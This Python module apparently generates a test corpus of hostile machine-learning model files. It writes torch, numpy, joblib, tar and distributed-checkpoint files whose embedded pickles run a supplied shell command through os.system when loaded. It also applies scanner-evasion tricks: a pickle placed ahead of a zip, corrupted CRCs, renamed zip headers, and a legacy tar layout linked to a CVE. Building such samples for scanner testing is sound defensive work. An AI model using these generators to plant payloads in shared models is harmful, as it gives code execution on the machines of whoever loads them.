"""Where a payload can sit: writers of hostile files around a technique's pickle body.

Every container starts from what the real library writes (``torch.save`` zip and legacy
files, ``np.save``/``np.savez``, ``joblib.dump``, ``torch.distributed.checkpoint.save``) and
then puts the payload where that format's loader will run it.
"""

from __future__ import annotations

import io
import os
import pickle
import pickletools
import struct
import tarfile
import zipfile
from pathlib import Path
from typing import Any, Callable

from corpus.opcodes import Reduce, call, glob, inject, ustr


def system_body(cmd: str) -> bytes:
    return call(glob("os", "system"), ustr(cmd))


# --- torch zip ------------------------------------------------------------------------------

def torch_zip(dst: Path, edit: Callable[[bytes], bytes], *,
              rebuild: Callable[[list[tuple[zipfile.ZipInfo, bytes]]], list[
                  tuple[zipfile.ZipInfo, bytes]]] | None = None,
              compression: int = zipfile.ZIP_STORED) -> Path:
    """A real ``torch.save`` zip whose ``data.pkl`` went through ``edit``."""
    import torch

    source = io.BytesIO()
    torch.save({"w": torch.ones(2, 3), "b": torch.zeros(3), "step": 7}, source)
    records = []
    with zipfile.ZipFile(source) as zin:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.endswith("/data.pkl"):
                data = edit(data)
            records.append((zipfile.ZipInfo(info.filename.replace("archive/", f"{dst.stem}/"),
                                            info.date_time), data))
    if rebuild:
        records = rebuild(records)
    with zipfile.ZipFile(dst, "w", compression) as zout:
        for info, data in records:
            info.compress_type = compression
            zout.writestr(info, data)
    return dst


def pickle_then_zip(dst: Path, cmd: str) -> Path:
    """A pickle with a torch zip after it: zip readers find the zip (its directory is at the
    end), torch.load sees no zip magic first and unpickles from the start."""
    inner = torch_zip(dst.with_name(dst.name + ".zip"), lambda old: old)
    data = inner.read_bytes()
    inner.unlink()
    dst.write_bytes(pickle.dumps(Reduce(os.system, cmd), protocol=2) + data)
    return dst


def patch_local_header(path: Path, member: str, change: Callable[[bytes, int, int], bytes]
                       ) -> None:
    """Rewrite ``path`` with ``change(data, header_offset, data_offset)`` applied around one
    member (the central directory is left as zipfile wrote it)."""
    data = path.read_bytes()
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(member)
    name_len, extra_len = struct.unpack("<HH", data[info.header_offset + 26:
                                                    info.header_offset + 30])
    start = info.header_offset + 30 + name_len + extra_len
    path.write_bytes(change(data, info.header_offset, start))


def wrong_crc(path: Path, member: str) -> Path:
    """Flip the stored CRC of ``member`` in its local header and the central directory."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        crc = archive.getinfo(member).CRC
    old, new = struct.pack("<I", crc), struct.pack("<I", crc ^ 0xFFFFFFFF)
    path.write_bytes(bytes(data).replace(old, new))
    return path


def renamed_local_header(path: Path, member: str) -> Path:
    """The local header names another file than the central directory does."""
    def change(data: bytes, header: int, _start: int) -> bytes:
        name_len = struct.unpack("<H", data[header + 26:header + 28])[0]
        name = data[header + 30:header + 30 + name_len]
        renamed = name[:-5] + b"X" + name[-4:]
        return data[:header + 30] + renamed + data[header + 30 + name_len:]

    patch_local_header(path, member, change)
    return path


# --- legacy torch files -----------------------------------------------------------------------

LEGACY_PICKLES = ("magic", "protocol", "sys_info", "object", "storage_keys")


def legacy_parts() -> tuple[list[bytes], bytes]:
    """A real legacy ``torch.save`` split into its five pickles and the storage table."""
    import torch

    buffer = io.BytesIO()
    torch.save({"w": torch.ones(2, 3), "step": 7}, buffer, _use_new_zipfile_serialization=False)
    data = buffer.getvalue()
    stream, parts = io.BytesIO(data), []
    for _ in range(5):
        start = stream.tell()
        for _op in pickletools.genops(stream):
            pass
        parts.append(data[start:stream.tell()])
    return parts, data[stream.tell():]


def legacy_with(dst: Path, index: int, body: bytes) -> Path:
    pickles, storages = legacy_parts()
    dst.write_bytes(b"".join(inject(p, body) if i == index else p
                             for i, p in enumerate(pickles)) + storages)
    return dst


def legacy_tar(dst: Path, cmd: str) -> Path:
    """The pre-1.0 tar layout torch.load still reads (CVE-2025-32434 went through it)."""
    members = {"sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                         "type_sizes": {"short": 2, "int": 4, "long": 4}}),
               "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
               "tensors": pickle.dumps(0, protocol=2),
               "pickle": pickle.dumps({"hps": Reduce(os.system, cmd)}, protocol=2)}
    with tarfile.open(dst, "w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return dst


# --- numpy, joblib ----------------------------------------------------------------------------

def object_array(payload: Any) -> Any:
    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = payload
    return array


def npz(dst: Path, cmd: str, compressed: bool) -> Path:
    import numpy as np

    save = np.savez_compressed if compressed else np.savez
    with open(dst, "wb") as fh:  # a file object: np.savez would add '.npz' to a bare name
        save(fh, weights=np.zeros((2, 3), dtype=np.float32),
             evil=object_array(Reduce(os.system, cmd)))
    return dst


def npz_wrong_crc(dst: Path, cmd: str) -> Path:
    """An object array whose member CRC is wrong: numpy's zip reader finds out only at the
    member's end, after pickle.load ran the opcodes before it (the member is longer than the
    128 KiB the unpickler peeks ahead)."""
    import numpy as np

    array = np.empty(2, dtype=object)
    array[0], array[1] = Reduce(os.system, cmd), "x" * (300 << 10)
    with open(dst, "wb") as fh:
        np.savez(fh, weights=np.zeros(3), evil=array)
    return wrong_crc(dst, "evil.npy")


def npy(dst: Path, cmd: str) -> Path:
    import numpy as np

    with open(dst, "wb") as fh:
        np.save(fh, object_array(Reduce(os.system, cmd)), allow_pickle=True)
    return dst


def joblib_file(dst: Path, cmd: str, compress: Any) -> Path:
    import joblib
    import numpy as np

    joblib.dump({"w": np.ones((64, 64), dtype=np.float32),
                 "labels": object_array(Reduce(os.system, cmd))}, dst, compress=compress)
    return dst


# --- hub archives, pickled tensors, DCP -------------------------------------------------------

def tar_gz(dst: Path, cmd: str) -> Path:
    """A hub download: a torch checkpoint and an options pickle that runs ``cmd``."""
    import torch

    model, opts = io.BytesIO(), pickle.dumps({"opt": Reduce(os.system, cmd)}, protocol=4)
    torch.save({"w": torch.ones(3)}, model)
    with tarfile.open(dst, "w:gz") as tar:
        for name, data in (("1/model.pt", model.getvalue()), ("1/opt.pkl", opts)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return dst


def pickled_tensor(dst: Path, cmd: str, protocol: int) -> Path:
    """``pickle.dumps`` of a tensor, whose embedded storage file runs ``cmd`` when
    torch.storage._load_from_bytes loads it."""
    import torch

    embedded = io.BytesIO()
    torch.save([Reduce(os.system, cmd)], embedded, _use_new_zipfile_serialization=False)
    dst.write_bytes(pickle.dumps({"w": torch.ones(2), "stage": Reduce(
        torch.storage._load_from_bytes, embedded.getvalue())}, protocol=protocol))
    return dst


def dcp(dst: Path, state: dict[str, Any]) -> Path:
    """``torch.distributed.checkpoint.save`` in one process, no process group."""
    import warnings

    import torch.distributed.checkpoint as dist_cp

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "assuming the intent is to save in a single process"
        dist_cp.save(state, checkpoint_id=str(dst))
    return dst


def dcp_state() -> dict[str, Any]:
    import torch

    return {"model": {"w": torch.ones(2, 3), "b": torch.zeros(3)}, "step": 7,
            "extra": {"lr": 0.1, "names": ["a", "b"]}}


def dcp_hostile_metadata(dst: Path, cmd: str) -> Path:
    dcp(dst, dcp_state())
    metadata = dst / ".metadata"
    metadata.write_bytes(inject(metadata.read_bytes(), system_body(cmd)))
    return dst


def dcp_hostile_item(dst: Path, cmd: str) -> Path:
    """An object in the state dict that DCP stores as a byte item with torch.save, and loads
    back with torch.load(weights_only=False)."""
    state = dcp_state()
    state["extra"]["hook"] = Reduce(os.system, cmd)
    return dcp(dst, state)
